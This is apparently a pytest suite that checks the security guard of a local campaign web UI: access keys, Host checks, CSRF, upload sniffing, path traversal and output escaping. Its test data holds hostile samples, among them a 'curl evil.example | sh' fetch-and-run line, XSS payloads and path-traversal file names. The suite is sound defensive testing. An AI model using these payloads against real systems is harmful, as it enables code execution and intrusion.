"""`distrib ui`'s guard, against a real server on 127.0.0.1: the access key, the Host, CSRF,
body sizes, uploads that lie about what they are, file names that try to be paths, untrusted
text, and the headers on every answer."""

from __future__ import annotations

import io
import threading
import zipfile
from pathlib import Path

import httpx
import pytest
from openpyxl import Workbook

from audit_helpers import Clock, Person, add_run, open_log
from campaign_helpers import CampaignFiles, write_campaign
from distrib.app import add_account
from distrib.optout import unsubscribe_addresses
from distrib.web.security import CSP
from distrib.web.sse import Event, EventChannel, event_stream, format_event
from web_helpers import TOKEN, csrf_of, served, signed_in, ui_server

HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(2)>'


@pytest.fixture
def workspace(tmp_path: Path) -> CampaignFiles:
    """A campaign whose log holds a run and an opt-out carrying markup in every text field."""
    files = write_campaign(tmp_path / "ws", port=25)
    clock = Clock()
    with open_log(files.log, clock) as log:
        people = [Person("zoe@fleuve.example", HOSTILE, HOSTILE, "fr")]
        add_run(log, clock, people, campaign=HOSTILE)
        unsubscribe_addresses(log, ["zoe@fleuve.example"], note=HOSTILE)
    return files


def files_under(folder: Path) -> set[Path]:
    return {p.relative_to(folder) for p in folder.rglob("*") if p.is_file()}


def test_nothing_but_static_files_is_served_without_the_access_key(
    workspace: CampaignFiles,
) -> None:
    with ui_server(workspace.campaign) as server, httpx.Client(base_url=server.url()) as client:
        for method, path in [
            ("GET", "/"),
            ("GET", "/uploads"),
            ("GET", "/uploads/0123456789abcdef0123456789abcdef.html/view"),
            ("GET", "/frame/anything"),
            ("GET", "/no-such-page"),
            ("POST", "/uploads"),
            ("POST", "/lang"),
            ("POST", "/logout"),
            ("HEAD", "/"),
        ]:
            answer = client.request(method, path)
            assert answer.status_code == 401, (method, path)
            assert answer.headers["content-security-policy"] == CSP
            assert "zoe@fleuve.example" not in answer.text and "quays" not in answer.text
            assert "set-cookie" not in answer.headers
        # Static files are public: our own CSS and script, no data.
        style = client.get("/static/app.css")
        assert style.status_code == 200 and style.headers["content-security-policy"] == CSP
        assert client.post("/static/app.css").status_code == 405
        assert client.get("/static/../campaign.toml").status_code in (401, 404)


def test_the_access_key_is_taken_once_then_kept_in_a_strict_cookie(
    workspace: CampaignFiles,
) -> None:
    with ui_server(workspace.campaign) as server, httpx.Client(base_url=server.url()) as client:
        wrong = client.get(f"/uploads?token={TOKEN[:-1]}x")
        assert wrong.status_code == 403 and "set-cookie" not in wrong.headers
        assert client.get(f"/?token={TOKEN[:5]}").status_code == 403
        right = client.get(f"/uploads?token={TOKEN}&keep=1")
        assert right.status_code == 303
        assert right.headers["location"] == "/uploads?keep=1"  # the key leaves the address bar
        cookie = right.headers["set-cookie"]
        assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Path=/" in cookie
        assert TOKEN not in cookie
        assert client.get("/uploads").status_code == 200  # the cookie is the session now
        # A made-up session cookie is no session.
        with httpx.Client(base_url=server.url(), cookies={"distrib_session": "x" * 43}) as other:
            assert other.get("/").status_code == 401


def test_requests_naming_another_host_are_refused(workspace: CampaignFiles) -> None:
    """DNS rebinding: a page of evil.example whose name points at 127.0.0.1."""
    with ui_server(workspace.campaign) as server:
        client = signed_in(server)
        assert client.get("/").status_code == 200
        for host in ("evil.example", f"evil.example:{server.port}", "127.0.0.1.evil.example"):
            answer = client.get("/", headers={"host": host})
            assert answer.status_code == 400 and "quays" not in answer.text
            assert answer.headers["content-security-policy"] == CSP
        assert client.get("/", headers={"host": f"localhost:{server.port}"}).status_code == 200


def test_cross_site_and_tokenless_form_posts_are_refused(workspace: CampaignFiles) -> None:
    uploads = workspace.folder / "uploads"
    with ui_server(workspace.campaign) as server:
        client = signed_in(server)
        csrf = csrf_of(client.get("/uploads").text)
        sent = {"file": ("liste.csv", b"email\nzoe@fleuve.example\n", "text/csv")}
        origin = f"http://127.0.0.1:{server.port}"
        evil, cross = {"origin": "https://evil.example"}, {"sec-fetch-site": "cross-site"}
        plain_text = {"content-type": "text/plain"}
        refused = [
            client.post("/uploads", files=sent),  # no token
            client.post("/uploads", files=sent, data={"csrf": csrf[:-2] + "xx"}),  # wrong token
            client.post("/uploads", files=sent, data={"csrf": ""}),
            # The right token, from another site's page.
            client.post("/uploads", files=sent, data={"csrf": csrf}, headers=evil),
            client.post("/uploads", files=sent, data={"csrf": csrf}, headers=cross),
            client.post("/uploads", files=sent, headers={"origin": "null"}),  # and no token
            client.post(  # a sibling site (another port of 127.0.0.1 is another origin)
                "/uploads", files=sent, data={"csrf": csrf},
                headers={"origin": f"http://127.0.0.1:{server.port + 1}"},
            ),
            client.post("/lang", data={"lang": "en", "next": "/"}),
            client.post("/uploads", content=b"csrf=" + csrf.encode(), headers=plain_text),
        ]  # fmt: skip
        assert [r.status_code for r in refused] == [403] * len(refused)
        assert all(r.headers["content-security-policy"] == CSP for r in refused)
        assert not uploads.exists()
        # The same form from our own page passes (Origin and Sec-Fetch-Site as a browser sends).
        ok = client.post(
            "/uploads",
            files=sent,
            data={"csrf": csrf},
            headers={"origin": origin, "sec-fetch-site": "same-origin"},
        )
        assert ok.status_code == 303
        assert len(files_under(uploads)) == 1
        # The header form of the token, for scripts.
        switched = client.post(
            "/lang", data={"lang": "en", "next": "/"}, headers={"x-csrf-token": csrf}
        )
        assert switched.status_code == 303


def test_an_oversized_upload_is_refused_before_it_is_read(workspace: CampaignFiles) -> None:
    uploads = workspace.folder / "uploads"
    with ui_server(workspace.campaign, max_upload=4096) as server:
        client = signed_in(server)
        csrf = csrf_of(client.get("/uploads").text)
        big = b"email\n" + b"a@b.example\n" * 100_000  # 1.2 MB
        answer = client.post("/uploads", files={"file": ("big.csv", big)}, data={"csrf": csrf})
        assert answer.status_code == 413 and "4 KB" in answer.text

        def chunks() -> object:  # no Content-Length: counted while read
            yield b"csrf=" + csrf.encode() + b"&x="
            for _ in range(100):
                yield b"y" * 1024

        streamed = client.post(
            "/lang",
            content=chunks(),  # type: ignore[arg-type]
            headers={"content-type": "application/x-www-form-urlencoded"},
        )
        assert streamed.status_code == 413
        # Just under the limit (with the form's own overhead) is fine.
        small = client.post(
            "/uploads", files={"file": ("ok.csv", b"email\na@b.example\n")}, data={"csrf": csrf}
        )
        assert small.status_code == 303
    assert len(files_under(uploads)) == 1


def _zip(names: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in names.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _xlsx() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Email"])
    sheet.append(["zoe@fleuve.example"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _docx() -> bytes:
    from docx import Document

    document = Document()
    document.add_paragraph("Communiqué")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _ods(tmp_path: Path) -> bytes:
    from contacts_helpers import write_ods

    return write_ods(
        tmp_path / "x.ods", {"Feuille": [["Courriel"], ["zoe@fleuve.example"]]}
    ).read_bytes()


GENUINE = [
    ("liste.csv", "email;nom\nzoé@fleuve.example;Zoé\n".encode("cp1252", "replace")),
    ("liste.csv", "email,name\nzoe@fleuve.example,Zoé\n".encode("utf-16")),
    ("notes.txt", b"Call Zoe\r\n"),
    ("cards.vcf", b"BEGIN:VCARD\r\nVERSION:3.0\r\nEMAIL:zoe@fleuve.example\r\nEND:VCARD\r\n"),
    ("release.html", b"<!doctype html><html><body><p>Communiqu\xc3\xa9</p></body></html>"),
    ("photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 32),
    ("photo.JPG", b"\xff\xd8\xff\xe0" + b"\x00" * 32),
    ("anim.gif", b"GIF89a" + b"\x00" * 32),
    ("image.webp", b"RIFF\x20\x00\x00\x00WEBPVP8 " + b"\x00" * 32),
]

DISGUISED = [
    ("contacts.xlsx", b"#!/bin/sh\ncurl evil.example | sh\n", "not an Excel workbook"),
    ("contacts.xlsx", b"<script>alert(1)</script>", "not an Excel workbook"),
    ("contacts.csv", b"email\nzoe@fleuve.example\x00\x01\x02\x03\n", "binary data"),
    ("contacts.csv", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00", "binary data"),
    ("contacts.csv", _zip({"a.txt": b"x"}), "a ZIP archive"),
    ("contacts.xlsx", _zip({"a.txt": b"x"}), "a ZIP archive"),
    ("contacts.xlsx", b"PK\x03\x04garbage", "a damaged ZIP archive"),
    ("release.docx", _zip({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"<x/>"}),
     "it looks like an Excel workbook"),
    ("photo.png", b"<html><script>alert(1)</script></html>", "not a PNG image"),
    ("photo.jpg", b"\x89PNG\r\n\x1a\n" + b"\x00" * 8, "it looks like a PNG image"),
    ("cards.vcf", b"email\nzoe@fleuve.example\n", "not a vCard file"),
    ("release.html", b"Just some words, no markup.", "not an HTML page"),
    ("logo.svg", b"<svg onload=alert(1)></svg>", "is not accepted here"),
    ("script.js", b"alert(1)", "is not accepted here"),
    ("contacts", b"email\n", "has no extension"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data"), GENUINE, ids=[g[0] for g in GENUINE])
def test_genuine_files_are_kept_under_a_generated_name(
    workspace: CampaignFiles, name: str, data: bytes
) -> None:
    with ui_server(workspace.campaign) as server:
        client = signed_in(server)
        csrf = csrf_of(client.get("/uploads").text)
        answer = client.post("/uploads", files={"file": (name, data)}, data={"csrf": csrf})
        assert answer.status_code == 303, answer.text
    (stored,) = files_under(workspace.folder / "uploads")
    assert stored.stem != Path(name).stem and len(stored.stem) == 32
    assert (workspace.folder / "uploads" / stored).read_bytes() == data
    assert ((workspace.folder / "uploads" / stored).stat().st_mode & 0o777) == 0o600


def test_office_files_are_recognised_by_their_parts(
    workspace: CampaignFiles, tmp_path: Path
) -> None:
    with ui_server(workspace.campaign) as server:
        client = signed_in(server)
        csrf = csrf_of(client.get("/uploads").text)
        for name, data in (("l.xlsx", _xlsx()), ("r.docx", _docx()), ("l.ods", _ods(tmp_path))):
            answer = client.post("/uploads", files={"file": (name, data)}, data={"csrf": csrf})
            assert answer.status_code == 303, (name, answer.text)
        # Each one named as another is refused.
        for name, data in (("l.docx", _xlsx()), ("r.xlsx", _docx()), ("l.xlsx", _ods(tmp_path))):
            answer = client.post("/uploads", files={"file": (name, data)}, data={"csrf": csrf})
            assert answer.status_code == 415, name
    assert sorted(p.suffix for p in files_under(workspace.folder / "uploads")) == [
        ".docx", ".ods", ".xlsx"
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "data", "reason"), DISGUISED, ids=[f"{d[0]}-{i}" for i, d in enumerate(DISGUISED)]
)
def test_disguised_uploads_are_refused(
    workspace: CampaignFiles, name: str, data: bytes, reason: str
) -> None:
    with ui_server(workspace.campaign) as server:
        client = signed_in(server)
        client.post("/lang", data={"lang": "en", "next": "/"},
                    headers={"x-csrf-token": csrf_of(client.get("/uploads").text)})  # fmt: skip
        csrf = csrf_of(client.get("/uploads").text)
        # The browser's type claims what the name claims; only the content counts.
        answer = client.post(
            "/uploads",
            files={"file": (name, data, XLSX_TYPE)},
            data={"csrf": csrf},
        )  # fmt: skip
        assert answer.status_code == 415, answer.text
        assert reason in answer.text
    assert not (workspace.folder / "uploads").exists() or not files_under(
        workspace.folder / "uploads"
    )


XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

PATH_TRICKS = [
    "../../../../tmp/evil.csv",
    "../campaign.toml.csv",
    "/etc/cron.d/evil.csv",
    "..\\..\\Windows\\evil.csv",
    "C:\\Windows\\System32\\evil.csv",
    "CON.csv",
    "NUL.csv",
    "COM1.csv",
    "aux.CSV",
    "liste\u202e vsc.csv",
    "a/../../b.csv",
    ".csv",
    "....csv",
    "~/.bashrc.csv",
]


def test_path_tricks_in_file_names_are_never_used(workspace: CampaignFiles) -> None:
    before = files_under(workspace.folder)
    outside = files_under(workspace.folder.parent)
    with ui_server(workspace.campaign) as server:
        client = signed_in(server)
        csrf = csrf_of(client.get("/uploads").text)
        for name in PATH_TRICKS:
            answer = client.post(
                "/uploads",
                files={"file": (name, b"email\nzoe@fleuve.example\n")},
                data={"csrf": csrf},
            )
            assert answer.status_code in (303, 415), (name, answer.status_code)
        page = client.get("/uploads").text
    stored = files_under(workspace.folder / "uploads")
    assert stored and all(
        len(p.stem) == 32 and all(c in "0123456789abcdef" for c in p.stem) and p.suffix == ".csv"
        for p in stored
    )
    # Nothing but the uploads folder changed, there or anywhere above it.
    after = files_under(workspace.folder) - {Path("uploads") / p for p in stored}
    assert after == before
    assert (
        files_under(workspace.folder.parent) - {Path("ws") / "uploads" / p for p in stored}
        == outside
    )
    assert not Path("/tmp/evil.csv").exists()
    # Names are shown as their last part, escaped: never as a path.
    assert "evil.csv" in page and "/etc/cron.d" not in page and "..\\" not in page


def test_markup_in_contact_data_and_names_is_shown_as_text(workspace: CampaignFiles) -> None:
    with ui_server(workspace.campaign) as server:
        client = signed_in(server)
        csrf = csrf_of(client.get("/uploads").text)
        name = "<img src=x onerror=alert(3)>.csv"  # a name's last part has no "/"
        client.post("/uploads", files={"file": (name, b"email\n")}, data={"csrf": csrf})
        pages = [client.get(path) for path in ("/", "/uploads", "/no-such-page")]
    for page in pages:
        assert page.headers["content-security-policy"] == CSP
        assert "<script>alert" not in page.text and "<img src=x" not in page.text
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in pages[0].text  # run, note
    assert "&lt;img src=x onerror=alert(3)&gt;.csv" in pages[1].text  # the file's name


def test_message_html_is_served_only_to_a_sandboxed_frame(workspace: CampaignFiles) -> None:
    with ui_server(workspace.campaign) as server:
        client = signed_in(server)
        csrf = csrf_of(client.get("/uploads").text)
        html = b"<html><body><p>Hi</p><script>document.body.innerHTML='RAN'</script></body></html>"
        client.post("/uploads", files={"file": ("page.html", html)}, data={"csrf": csrf})
        (stored,) = files_under(workspace.folder / "uploads")
        view = client.get(f"/uploads/{stored}/view")
        assert view.status_code == 200 and "document.body" not in view.text
        assert 'sandbox=""' in view.text
        src = view.text.split('src="/frame/', 1)[1].split('"', 1)[0]
        frame = client.get(f"/frame/{src}")
        assert frame.text == html.decode()
        assert frame.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
        assert "frame-ancestors 'self'" in frame.headers["content-security-policy"]
        assert client.get("/frame/unknown").status_code == 404
        # Only files received as HTML are shown so; a name never reaches the file system.
        assert client.get("/uploads/..%2Fcampaign.toml/view").status_code == 404


def test_team_servers_sign_officers_in_and_renew_the_session(workspace: CampaignFiles) -> None:
    add_account(workspace.folder / "users.toml", "camille", "correct horse battery")
    with (
        ui_server(workspace.campaign, team=True) as server,
        httpx.Client(base_url=server.url()) as client,
    ):
        assert client.get(f"/?token={TOKEN}").status_code == 303  # no access key on a team server
        assert client.get("/").headers["location"] == "/login"
        assert client.post("/uploads").status_code == 401
        form = client.get("/login")
        anonymous = client.cookies["distrib_session"]
        csrf = csrf_of(form.text)
        assert client.post("/login", data={"name": "camille", "password": "x"}).status_code == 403
        wrong = client.post("/login", data={"csrf": csrf, "name": "camille", "password": "nope"})
        assert wrong.status_code == 401
        nobody = client.post("/login", data={"csrf": csrf, "name": "zoe", "password": "nope"})
        assert nobody.status_code == 401
        right = client.post(
            "/login", data={"csrf": csrf, "name": "camille", "password": "correct horse battery"}
        )
        assert right.status_code == 303
        assert client.cookies["distrib_session"] != anonymous  # a new session on sign-in
        home = client.get("/")
        assert home.status_code == 200 and "camille" in home.text
        # The session seen before signing in is worth nothing now.
        with httpx.Client(base_url=server.url(), cookies={"distrib_session": anonymous}) as other:
            assert other.get("/").status_code == 303
        out = client.post("/logout", data={"csrf": csrf_of(home.text)})
        assert out.headers["location"] == "/login"
        assert client.get("/").status_code == 303


def test_the_language_follows_the_browser_then_the_switch(workspace: CampaignFiles) -> None:
    with ui_server(workspace.campaign) as server:
        client = signed_in(server)
        assert "Espace de travail" in client.get("/").text  # French by default
        english = client.get("/", headers={"accept-language": "en-CA,en;q=0.9,fr;q=0.5"})
        assert english.headers["content-language"] == "en" and 'lang="en"' in english.text
        csrf = csrf_of(english.text)
        moved = client.post("/lang", data={"csrf": csrf, "lang": "en", "next": "//evil.example/"})
        assert moved.headers["location"] == "/"  # never to another site
        assert "Latest opt-outs" in client.get("/", headers={"accept-language": "fr"}).text
        client.post("/lang", data={"csrf": csrf, "lang": "fr", "next": "/uploads"})
        assert "Déposer un fichier" in client.get("/uploads").text


def test_server_sent_events_keep_their_framing() -> None:
    assert format_event(Event("a\nb\r\nc", event="progress", id="7")) == (
        b"event: progress\nid: 7\ndata: a\ndata: b\ndata: c\n\n"
    )
    with pytest.raises(ValueError, match="line break"):
        format_event(Event("x", event="progress\ndata: forged"))


def test_server_sent_events_stream_what_a_worker_thread_publishes() -> None:
    from starlette.applications import Starlette
    from starlette.requests import Request
    from starlette.responses import Response
    from starlette.routing import Route

    async def progress(request: Request) -> Response:
        import asyncio

        channel = EventChannel(asyncio.get_running_loop())

        def work() -> None:  # what a verb's progress callback does, in its own thread
            for number in range(1, 4):
                channel.publish(Event(f"{number} sent\n<b>not markup</b>"))
            channel.publish(Event("finished", event="end"))
            channel.close()

        threading.Thread(target=work).start()
        return event_stream(aiter(channel))

    app = Starlette(routes=[Route("/progress", progress)])
    with served(app) as server, httpx.stream("GET", f"{server.url()}progress") as answer:
        assert answer.headers["content-type"].startswith("text/event-stream")
        body = b"".join(answer.iter_bytes())
    assert body.decode() == (
        "data: 1 sent\ndata: <b>not markup</b>\n\n"
        "data: 2 sent\ndata: <b>not markup</b>\n\n"
        "data: 3 sent\ndata: <b>not markup</b>\n\n"
        "event: end\ndata: finished\n\n"
    )
